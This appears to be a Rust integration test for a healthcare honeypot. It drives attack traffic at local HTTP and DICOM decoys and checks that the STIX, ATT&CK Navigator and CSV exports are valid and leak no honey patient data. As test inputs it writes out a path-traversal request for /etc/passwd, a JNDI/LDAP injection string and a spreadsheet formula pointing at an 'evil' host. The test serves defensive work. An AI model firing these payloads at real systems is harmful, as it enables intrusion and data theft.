//! Exports after real activity (curl against HTTP decoys on IPv4 and IPv6, findscu
//! against a DICOM decoy holding a honey patient token): the STIX bundle passes the
//! OASIS STIX 2.1 validator (`stix2_validator`, from PyPI, which carries the 2.1 JSON
//! schemas) and holds no patient identifier, credential or internal name; the ATT&CK
//! Navigator layer lists exactly the techniques of the incidents; the CSV defuses
//! formulas and has one row per incident.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a panic is a failed test, not a crashed decoy

mod common;

use std::collections::BTreeSet;
use std::process::Command;
use std::time::Duration;

use common::*;

fn run(cmd: &str, args: &[&str]) -> String {
    let out = Command::new(cmd).args(args).output().unwrap_or_else(|e| panic!("{cmd}: {e} (scripts/test.sh installs it)"));
    String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
}

#[test]
fn a_stix_bundle_of_real_incidents_validates_and_carries_no_patient_data_and_the_navigator_layer_and_csv_match_the_incidents() {
    let dir = tempfile::tempdir().unwrap();
    let decoys = "  - name: ward-portal\n    type: http\n    listen: 127.0.0.1:0\n    personality: ehr-login\n  - name: ward-portal-v6\n    type: http\n    listen: '[::1]:0'\n  - name: radiology-pacs\n    type: dicom\n    listen: 127.0.0.1:0\n    personality: orthanc\n    unknown_ae_queries: answer\n";
    let hw = Honeyward::start(dir.path(), &config(decoys));
    let cli = |args: &[&str]| cli(dir.path(), args);
    cli(&["token", "create", "patient", "--label", "honey patient in the radiology export", "--out", "patient.json"]);
    let tokens = cli(&["token", "list", "--json"]);
    let nhs = tokens.split("\"nhs_number\":\"").nth(1).unwrap().split('"').next().unwrap().to_string();
    let patient: serde_json::Value = serde_json::from_str(tokens.lines().find(|l| l.contains(&nhs)).unwrap()).unwrap();
    let p = &patient["facts"]["patient"];
    let identifiers: Vec<String> =
        [&p["family_name"], &p["given_name"], &p["mrn"], &p["studies"][0]["accession_number"], &p["studies"][0]["study_instance_uid"]]
            .iter()
            .map(|v| v.as_str().expect("the patient token's identifiers").to_string())
            .collect();
    std::thread::sleep(Duration::from_millis(1200));

    let web = hw.addr("ward-portal");
    let web6 = hw.addr("ward-portal-v6");
    let password = "Winter2026!ward7";
    run("curl", &["-s", "-o", "/dev/null", "-d", &format!("username=dr.jones&password={password}"), &format!("http://{web}/login")]);
    run("curl", &["-s", "-o", "/dev/null", "-A", "=HYPERLINK(\"http://evil\")", &format!("http://{web}/../../etc/passwd")]);
    run("curl", &["-s", "-o", "/dev/null", "-g", &format!("http://[::1]:{}/?q=${{jndi:ldap://x/a}}", web6.port())]);
    let pacs = hw.addr("radiology-pacs").port().to_string();
    run("findscu", &["-S", "-k", "QueryRetrieveLevel=STUDY", "-k", &format!("PatientID={nhs}"), "127.0.0.1", &pacs]);

    let db = hw.store();
    assert!(eventually(10, || count_kind(&db, "dicom_command") >= 1 && count_kind(&db, "http_request") >= 3));
    let incidents: Vec<serde_json::Value> = cli(&["incidents", "list", "--json"]).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert!(incidents.len() >= 2, "{incidents:?}");

    // STIX: valid, TLP and sector set, both addresses indicated, nothing internal.
    cli(&["export", "stix", "--organisation", "Example NHS Foundation Trust", "--tlp", "green", "--include-private", "-o", "bundle.json"]);
    let path = dir.path().join("bundle.json");
    let validated = run("stix2_validator", &["--version", "2.1", path.to_str().unwrap()]);
    assert!(validated.contains("STIX JSON: Valid") && !validated.contains("Invalid") && !validated.contains("[X]"), "stix2_validator:\n{validated}");
    // The only warning allowed: ATT&CK references carry a URL without a hash.
    assert!(validated.lines().filter(|l| l.contains("Warning")).all(|l| l.contains("{302}")), "stix2_validator:\n{validated}");
    let text = std::fs::read_to_string(&path).unwrap();
    let bundle: serde_json::Value = serde_json::from_str(&text).unwrap();
    let objects = bundle["objects"].as_array().unwrap();
    let of = |t: &str| objects.iter().filter(|o| o["type"] == t).collect::<Vec<_>>();
    assert_eq!(of("identity")[0]["sectors"][0], "healthcare");
    assert_eq!(of("marking-definition")[0]["name"], "TLP:GREEN");
    let marking = of("marking-definition")[0]["id"].clone();
    for o in objects.iter().filter(|o| o["type"] != "marking-definition") {
        assert_eq!(o["object_marking_refs"], serde_json::json!([marking]), "every object carries the TLP marking, addresses included: {o}");
    }
    let patterns: BTreeSet<String> = of("indicator").iter().map(|i| i["pattern"].as_str().unwrap().to_string()).collect();
    assert!(patterns.contains("[ipv4-addr:value = '127.0.0.1']") && patterns.contains("[ipv6-addr:value = '::1']"), "{patterns:?}");
    let shared = incidents.iter().filter(|i| i["source"].is_string() && i["suppressed"] == false).count();
    assert_eq!(of("sighting").len(), shared, "a sighting per incident");
    let techniques: BTreeSet<String> =
        incidents.iter().flat_map(|i| i["techniques"].as_array().unwrap().iter().map(|t| t.as_str().unwrap().to_string())).collect();
    let shared_techniques: BTreeSet<String> =
        of("attack-pattern").iter().map(|p| p["external_references"][0]["external_id"].as_str().unwrap().to_string()).collect();
    assert_eq!(shared_techniques, techniques);
    assert!(techniques.contains("T1213") && techniques.contains("T1190"), "{techniques:?}");
    for secret in [nhs.as_str(), password, "dr.jones", "honey patient", "test-sensor", "ward-portal", "radiology-pacs", "HYPERLINK", "jndi"] {
        assert!(!text.contains(secret), "the bundle leaks {secret:?}");
    }
    for id in &identifiers {
        assert!(!text.contains(id.as_str()), "the bundle leaks the honey patient's {id:?}");
    }
    // Without --include-private, loopback addresses stay home.
    let private_kept = cli(&["export", "stix", "--organisation", "Example NHS Foundation Trust"]);
    assert!(!private_kept.contains("\"indicator\""), "{private_kept}");
    assert!(private_kept.contains("TLP:AMBER"), "amber by default");

    // Navigator: exactly the techniques of the incidents.
    let layer: serde_json::Value = serde_json::from_str(&cli(&["export", "attack-navigator"])).unwrap();
    assert_eq!(layer["domain"], "enterprise-attack");
    let layered: BTreeSet<String> = layer["techniques"].as_array().unwrap().iter().map(|t| t["techniqueID"].as_str().unwrap().to_string()).collect();
    assert_eq!(layered, techniques);

    // CSV: a header and a row per incident, no cell opening with a formula.
    let csv = cli(&["export", "csv"]);
    let rows: Vec<&str> = csv.split("\r\n").filter(|r| !r.is_empty()).collect();
    assert!(rows[0].starts_with("id,first_seen,last_seen,severity"));
    assert_eq!(rows.len(), incidents.len() + 1, "{csv}");
    for cell in rows.iter().flat_map(|r| r.split(',')) {
        assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '@']), "{cell}");
    }
}
